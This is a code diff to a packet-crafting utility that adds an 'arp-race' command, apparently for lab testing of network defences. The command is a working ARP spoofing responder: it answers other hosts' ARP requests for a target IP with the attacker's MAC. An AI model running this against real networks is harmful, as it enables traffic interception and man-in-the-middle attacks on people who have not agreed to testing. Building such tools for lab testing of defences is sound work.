@@ -8,6 +8,7 @@ server use ordinary sockets. Every wait is bounded.
 
   pkt.py arp IFACE --smac M --sip IP --tip IP [--op reply --tmac M --dmac M] [--vlan 100]
   pkt.py garp IFACE --smac M --ip IP [--vlan 100]
+  pkt.py arp-race IFACE --smac M --ip IP --ready FILE [--timeout S]
   pkt.py na IFACE --smac M --ip IP6
   pkt.py ip IFACE --smac M --dmac M --src IP --dst IP --proto tcp|udp|icmp
                [--sport N --dport N --flags S --dns --vlan 100[,200]]
@@ -144,6 +145,39 @@ def cmd_arp(a):
     dmac = a.dmac or ("ff:ff:ff:ff:ff:ff" if op == 1 else tmac)
     frame = eth(dmac, a.smac, ETH_P_ARP, vlan_list(a.vlan)) + arp(op, a.smac, a.sip, tmac, a.tip)
     send_frames(a.iface, [frame], a.count, a.gap)
+
+
+def cmd_arp_race(a):
+    """An ARP spoofer's responder (the arpspoof/ettercap pattern): answer
+    every ARP request for IP, whoever owns it, with "IP is at SMAC", right
+    after the owner does. Runs until --timeout."""
+    try:
+        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP))
+        s.bind((a.iface, 0))
+    except OSError as e:
+        die(f"cannot open a raw socket on {a.iface}: {e.strerror} (run as root inside the lab)")
+    want = socket.inet_aton(a.ip)
+    if a.ready:
+        with open(a.ready + ".tmp", "w") as f:
+            f.write("ready\n")
+        os.rename(a.ready + ".tmp", a.ready)
+    end = time.monotonic() + a.timeout
+    while time.monotonic() < end:
+        ready, _, _ = select.select([s], [], [], 0.5)
+        if not ready:
+            continue
+        frame, addr = s.recvfrom(2048)
+        if addr[2] == socket.PACKET_OUTGOING or len(frame) < 42:
+            continue
+        op, sha, spa, tpa = struct.unpack("!H", frame[20:22])[0], frame[22:28], frame[28:32], \
+            frame[38:42]
+        if op != 1 or tpa != want or spa in (want, b"\0\0\0\0"):
+            continue
+        smac = mac_bytes(a.smac)
+        s.send(sha + smac + struct.pack("!H", ETH_P_ARP) +
+               struct.pack("!HHBBH", 1, ETH_P_IP, 6, 4, 2) + smac + want + sha + spa)
+        print(f"answered {socket.inet_ntoa(spa)} for {a.ip}", flush=True)
+    s.close()
 
 
 def cmd_garp(a):
@@ -343,6 +377,13 @@ def main():
     p.add_argument("--tip", required=True)
     p.add_argument("--tmac")
     p.add_argument("--dmac")
+    p = sub.add_parser("arp-race")
+    p.add_argument("iface")
+    p.add_argument("--smac", required=True)
+    p.add_argument("--ip", required=True)
+    p.add_argument("--ready")
+    p.add_argument("--timeout", type=float, default=300)
+    p.set_defaults(fn=cmd_arp_race)
     p = framed("garp", cmd_garp)
     p.add_argument("--ip", required=True)
     p = framed("na", cmd_na)
